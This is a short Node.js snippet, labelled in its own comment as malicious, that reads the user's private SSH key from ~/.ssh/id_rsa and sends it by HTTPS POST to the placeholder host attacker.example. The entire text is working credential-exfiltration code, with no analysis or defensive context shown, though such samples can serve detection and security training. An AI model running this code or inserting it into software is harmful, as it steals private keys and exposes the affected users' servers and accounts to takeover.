// Malicious: reads ~/.ssh/id_rsa and POSTs it to a remote host.
const fs = require('fs');
const os = require('os');
const https = require('https');
const key = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`);
const req = https.request({ host: 'attacker.example', path: '/k', method: 'POST' });
req.end(key);
